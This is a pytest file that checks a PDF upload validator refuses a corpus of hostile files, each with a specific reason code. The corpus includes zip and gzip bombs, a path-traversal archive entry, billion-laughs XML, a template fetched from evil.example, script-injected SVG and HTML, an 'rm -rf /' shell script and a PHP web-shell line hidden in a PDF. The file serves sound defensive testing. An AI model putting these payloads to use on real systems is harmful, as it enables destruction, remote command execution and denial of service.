"""The corpus of hostile files: not one is taken, each is refused for its reason."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pytest

from core import files, pdf_judge
from core.errors import Refused
from core.wording import known_codes
from sps_portal.seed.writing import small_pdf
from tests.core.test_pdf_judge import CATALOG, PAGE, PAGES, packed_objects

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def zipped(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def overlapping() -> bytes:
    """Two names in the directory of an archive that lead to the same bytes."""
    content = bytearray(zipped(one=b"\0" * 10_000))
    entry = bytes(content[content.index(b"PK\x01\x02") : content.index(b"PK\x05\x06")])
    end = bytearray(content[content.index(b"PK\x05\x06") :])
    end[8:12] = struct.pack("<HH", 2, 2)
    end[12:16] = struct.pack("<L", 2 * len(entry))
    return bytes(content[: content.index(b"PK\x05\x06")]) + entry + bytes(end)


def inside(content: bytes, mark: bytes) -> bytes:
    """Give a sound PDF with a comment right behind its head."""
    head, rest = content.split(b"\n", 1)
    moved = head + b"\n%" + mark + b"\n" + rest
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(moved)) as pdf:
        pdf.save(out)
    written = out.getvalue()
    head, rest = written.split(b"\n", 1)
    return head + b"\n%" + mark + b"\n" + rest


def locked() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(small_pdf("x"))) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=""))
    return out.getvalue()


def png(side: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))

    head = struct.pack("!LLBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w>&b;</w>'
OUTSIDE = b'<Relationships><Relationship Type="attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
CORPUS: dict[str, tuple[Callable[[], bytes], str]] = {
    "no byte": (lambda: b"", "file_empty"),
    "one byte": (lambda: b"%", "file_not_pdf"),
    "NUL bytes": (lambda: b"\0" * 1000, "file_not_pdf"),
    "EICAR": (lambda: EICAR, "file_not_pdf"),
    "EICAR past thirty megabytes": (lambda: b"%PDF-1.7 " + b"x" * 30_000_000 + EICAR, "file_too_big"),
    "a zip bomb": (lambda: zipped(**{f"{n}.bin": b"\0" * 1_000_000 for n in range(20)}), "file_not_pdf"),
    "a zip in a zip": (lambda: zipped(inner=zipped(inner=zipped(x=b"x"))), "file_not_pdf"),
    "a zip of overlapping entries": (overlapping, "file_not_pdf"),
    "a zip with a path that climbs": (lambda: zipped(**{"..__..__etc__passwd": b"x"}), "file_not_pdf"),
    "a gzip bomb": (lambda: gzip.compress(b"\0" * 10_000_000), "file_not_pdf"),
    "a document of billion laughs": (lambda: zipped(**{"word__document.xml": LAUGHS}), "file_not_pdf"),
    "a document that fetches its template": (lambda: zipped(**{"word___rels__settings.xml.rels": OUTSIDE}), "file_not_pdf"),
    "a document with macros, renamed": (lambda: zipped(**{"word__vbaProject.bin": b"\xcc\x61"}), "file_not_pdf"),
    "an old document with macros": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file_not_pdf"),
    "rich text with an object": (lambda: rb"{\rtf1{\object\objdata 0105}}", "file_not_pdf"),
    "a huge picture": (lambda: png(200_000), "file_not_pdf"),
    "a drawing with a script": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>', "file_not_pdf"),
    "a web page": (lambda: b"<!doctype html><script>alert(1)</script>", "file_not_pdf"),
    "a web page that names itself PDF later": (lambda: b"<html>%PDF-1.7", "file_not_pdf"),
    "a script": (lambda: b"#!/bin/sh\nrm -rf /", "file_not_pdf"),
    "a program": (lambda: b"MZ\x90\0" + b"\0" * 100, "file_not_pdf"),
    "PostScript": (lambda: b"%!PS-Adobe-3.0\n(x) run", "file_not_pdf"),
    "a BOM before the head": (lambda: b"\xef\xbb\xbf" + small_pdf("x"), "file_not_pdf"),
    "words before the head": (lambda: b"GIF89a;" + small_pdf("x"), "file_not_pdf"),
    "the head alone": (lambda: b"%PDF-1.7", "file_damaged"),
    "a head and noise": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF", "file_damaged"),
    "the first half of a PDF": (lambda: small_pdf("x")[: len(small_pdf("x")) // 2], "file_damaged"),
    "all of a PDF but its end": (lambda: small_pdf("x")[:-20], "file_damaged"),
    "a PDF and an archive": (lambda: small_pdf("x") + zipped(evil=b"MZ"), "file_two_kinds"),
    "a PDF and a large something": (lambda: small_pdf("x") + b"\0" * 5_000, "file_two_kinds"),
    "a PDF and a web page": (lambda: inside(small_pdf("x"), b"<html><script>alert(1)</script>"), "file_two_kinds"),
    "a PDF and a program for a server": (lambda: inside(small_pdf("x"), b"<?php system($_GET[0]);"), "file_two_kinds"),
    "a PDF without a password that is encrypted": (locked, "file_encrypted"),
    "more pages than its place takes": (lambda: small_pdf("x", pages=40), "file_too_long"),
    "a million objects": (lambda: packed_objects(CATALOG, PAGES, PAGE % b"", *[b"1"] * 90_000), "file_damaged"),
}  # fmt: skip


@pytest.mark.parametrize(("make", "code"), CORPUS.values(), ids=CORPUS)
def test_it_is_refused_for_its_reason(make: Callable[[], bytes], code: str) -> None:
    with pytest.raises(Refused) as refused:
        files.read_pdf(make(), where="cv", max_mb=5, max_pages=3)
    found = {finding.code for finding in refused.value.findings}
    assert code in found or (code == "file_damaged" and found == {"file_slow"})
    assert found <= known_codes()


def test_what_programs_leave_after_the_end_is_no_other_file() -> None:
    for more in (b"\n", b"\r\n\r\n", b"\0" * 100, b"\n% printed by a machine\n"):
        assert pdf_judge.judge(small_pdf("x") + more) == {"pages": 1}
